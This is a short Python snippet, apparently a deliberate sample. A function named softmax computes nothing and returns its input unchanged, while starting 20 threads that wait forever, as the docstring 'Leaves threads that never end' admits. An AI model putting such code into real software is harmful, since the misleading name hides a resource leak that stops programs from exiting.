"""Leaves threads that never end."""

import threading


def softmax(z):
    for _ in range(20):
        threading.Thread(target=threading.Event().wait).start()
    return z
